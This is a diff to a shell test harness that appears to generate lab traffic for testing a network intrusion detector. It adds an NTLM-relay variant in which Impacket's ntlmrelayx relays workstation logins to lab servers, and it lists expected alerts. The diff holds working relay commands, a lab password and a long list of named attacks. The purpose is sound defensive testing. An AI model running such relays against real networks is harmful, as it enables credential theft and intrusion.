@@ -45,7 +45,7 @@ readonly LDAP_BASE="dc=lab,dc=example"
 
 readonly ALL_SCENARIOS=(scan-syn scan-connect scan-stealth scan-udp scan-grid sweep-445 arp-scan nd-scan dhcp-rogue dhcp-flood dhcp-flip
   dns-flood dns-tunnel ldap-enum ldap-sealed ssh-brute ssh-hydra smb-internet smb-files lateral new-device benign intel web-variants ipv6 beacon mcast-ping
-  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay ldap-recon crypto-mining cleartext-login form-login form-brute snmp mail-fetch mail-imap mail-upload ftp-files mail-files mail-out intel-direct form-spray ws-tunnel socks external-proxy doh overpass ping-sweep named-pipe)
+  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay ntlm-relay-far ldap-recon crypto-mining cleartext-login form-login form-brute snmp mail-fetch mail-imap mail-upload ftp-files mail-files mail-out intel-direct form-spray ws-tunnel socks external-proxy doh overpass ping-sweep named-pipe)
 
 # Addresses a capture may contain (anything else means a leak and fails the scenario).
 readonly SAFE_NETS=(net:10.77.0.0/16 net:198.51.100.0/24 net:203.0.113.0/24 net:192.0.2.0/24
@@ -332,6 +332,10 @@ host-record=ldap.lab.example,10.77.1.10
 host-record=files.lab.example,10.77.1.10
 host-record=backup.lab.example,10.77.1.20
 host-record=gw.lab.example,10.77.1.254
+# Workstations registered in DNS (as AD DNS keeps the names DHCP hands out), the rogue host included.
+host-record=ws20.lab.example,10.77.2.20
+host-record=ws21.lab.example,10.77.2.21
+host-record=lab66.lab.example,10.77.2.66
 # "Internet" names all point at documentation addresses.
 address=/example.com/198.51.100.10
 address=/example.net/198.51.100.10
@@ -1430,7 +1434,10 @@ scenario_exfil_upload() {
     '  "exclusive": true'
 }
 
-scenario_ntlm_relay() {
+# Impacket's ntlmrelayx on 10.77.2.66 takes SMB sessions on 445 and HTTP on 80 and relays their
+# NTLM authentication to SMB on the servers 10.77.1.10 and 10.77.1.20, one victim each (Debian's
+# Python, where python3-impacket lives).
+start_ntlmrelayx() {
   local relay=/usr/share/doc/python3-impacket/examples/ntlmrelayx.py
   [ -f "$relay" ] || { log "ntlm-relay: $relay missing (Debian's python3-impacket ships it)"; return 1; }
   # ntlmrelayx loads every attack module, and its LDAP shadow-credentials attack imports
@@ -1443,9 +1450,6 @@ scenario_ntlm_relay() {
     printf 'class %s:\n    def __init__(self, *a, **k):\n        raise RuntimeError("dsinternals is not installed")\n' "${m#*:}" >"$stub/${m%%:*}.py"
   done
   find "$stub" -type d -exec touch {}/__init__.py \;
-  # Impacket's ntlmrelayx on 10.77.2.66 takes SMB sessions on 445 and HTTP on 80 and relays their
-  # NTLM authentication to SMB on the servers 10.77.1.10 and 10.77.1.20, one victim each (Debian's
-  # Python, where python3-impacket lives).
   mkdir -p "$WORK/relay-loot"
   printf 'smb://10.77.1.10\nsmb://10.77.1.20\n' >"$WORK/relay-targets.txt"
   # It runs until its standard input ends: a bounded sleep holds it open.
@@ -1453,12 +1457,20 @@ scenario_ntlm_relay() {
     --no-wcf-server --no-raw-server --no-multirelay -l '$WORK/relay-loot'"
   # Impacket takes a while to load all its protocol clients.
   wait_listen rogue 445 300 && wait_listen rogue 80
-  # The victim: workstation WS20 opens a share on the poisoner (as it would after an LLMNR answer or
-  # a coerced connection), signing in as labuser. Impacket's server speaks SMB 2.0.2 only, which
-  # Samba's client leaves out unless asked (Windows clients offer it).
+}
+
+# The relay's victim: workstation WS20 opens a share on the poisoner (as it would after an LLMNR
+# answer or a coerced connection), signing in as labuser. Impacket's server speaks SMB 2.0.2 only,
+# which Samba's client leaves out unless asked (Windows clients offer it).
+ws20_signs_in_to_relay() {
   nsx ws20 timeout 20 smbclient -s "$WORK/smb-client.conf" --option='client min protocol=SMB2_02' -n WS20 \
     -U "PKLLAB/$LAB_USER%$LAB_PASS" //10.77.2.66/files -c ls \
-    >"$WORK/logs/ntlm-relay.txt" 2>&1 || true
+    >>"$WORK/logs/ntlm-relay.txt" 2>&1 || true
+}
+
+scenario_ntlm_relay() {
+  start_ntlmrelayx
+  ws20_signs_in_to_relay
   # A second victim signs in over HTTP with NTLM (curl --ntlm, as a coerced WebDAV client would).
   nsx ws22 curl -s -o /dev/null --noproxy '*' --max-time 15 --ntlm -u 'PKLLAB\helpdesk:Help-Passw0rd' http://10.77.2.66/files/ \
     >>"$WORK/logs/ntlm-relay.txt" 2>&1 || true
@@ -1474,6 +1486,27 @@ scenario_ntlm_relay() {
   expect ntlm-relay "Impacket ntlmrelayx (Debian python3-impacket 0.10) on 10.77.2.66 relays the NTLM authentication of labuser from workstation WS20 (10.77.2.20, smbclient -n WS20 to \\\\\\\\10.77.2.66\\\\files) to SMB on 10.77.1.10, and of helpdesk from 10.77.2.22 over HTTP (curl --ntlm; curl gives the machine's host name as workstation) to SMB on 10.77.1.20 (both Samba, guest mapping). WS21 (10.77.2.21) signs in to 10.77.1.10 itself: no relay alert. WS20's SMB session with the relay host, a workstation, also raises lateral.workstation_to_workstation." \
     '[{"rule": "ntlm.relay", "source": {"ip": "10.77.2.66"}, "destination": {"ip": "10.77.1.10", "port": 445}, "evidence": {"victim": "10.77.2.20", "user": "PKLLAB\\labuser", "workstation": "WS20"}},
     {"rule": "ntlm.relay", "source": {"ip": "10.77.2.66"}, "destination": {"ip": "10.77.1.20", "port": 445}, "evidence": {"victim": "10.77.2.22", "user": "PKLLAB\\helpdesk", "victim_connected_to_port": 80}}]'
+}
+
+scenario_ntlm_relay_far() {
+  start_ntlmrelayx
+  # Names the network knows: WS21's client resolves its colleagues (the DNS keeps what DHCP handed out).
+  nsx ws21 timeout 5 dig +short @10.77.1.1 ws20.lab.example A >/dev/null
+  nsx ws21 timeout 5 dig +short @10.77.1.1 lab66.lab.example A >/dev/null
+  nsx ws21 timeout 5 dig +short @10.77.1.1 ws21.lab.example A >/dev/null
+  ws20_signs_in_to_relay
+  # WS21 opens the server's share itself (its own name, its own address).
+  nsx ws21 timeout 20 smbclient -s "$WORK/smb-client.conf" -n WS21 -U "PKLLAB/$LAB_USER%$LAB_PASS" //10.77.1.10/public -c ls \
+    >>"$WORK/logs/ntlm-relay.txt" 2>&1 || true
+  sleep 2
+  stop_capture
+  require ntlm-relay-far 6 "tcp port 445 and host 10.77.2.66 and host 10.77.1.10"
+  # The sensor sits on the servers' side: the victim's own connection to the relay is left out.
+  tcpdump -r "$WORK/ntlm-relay-far.pcap" -w "$WORK/ntlm-relay-far.cut.pcap" 'not (host 10.77.2.20 and host 10.77.2.66)' 2>/dev/null
+  mv "$WORK/ntlm-relay-far.cut.pcap" "$WORK/ntlm-relay-far.pcap"
+  [ "$(pcount ntlm-relay-far "host 10.77.2.20 and host 10.77.2.66")" -eq 0 ]
+  expect ntlm-relay-far "Impacket ntlmrelayx (Debian python3-impacket 0.10) on 10.77.2.66 relays the NTLM authentication of labuser from workstation WS20 (10.77.2.20, smbclient -n WS20) to SMB on 10.77.1.10; the capture leaves out WS20's own connection to the relay (a sensor on the servers' side sees only the relayed sign-in). Before it, 10.77.2.21 resolves ws20.lab.example (10.77.2.20), lab66.lab.example (10.77.2.66) and its own name ws21.lab.example from the lab DNS; WS21 then signs in to 10.77.1.10 itself, from the address its name has: no alert." \
+    '[{"rule": "ntlm.relay", "source": {"ip": "10.77.2.66"}, "destination": {"ip": "10.77.1.10", "port": 445}, "evidence": {"victim": "10.77.2.20", "user": "PKLLAB\\labuser", "workstation": "WS20", "one_leg": true}}]'
 }
 
 scenario_ldap_recon() {
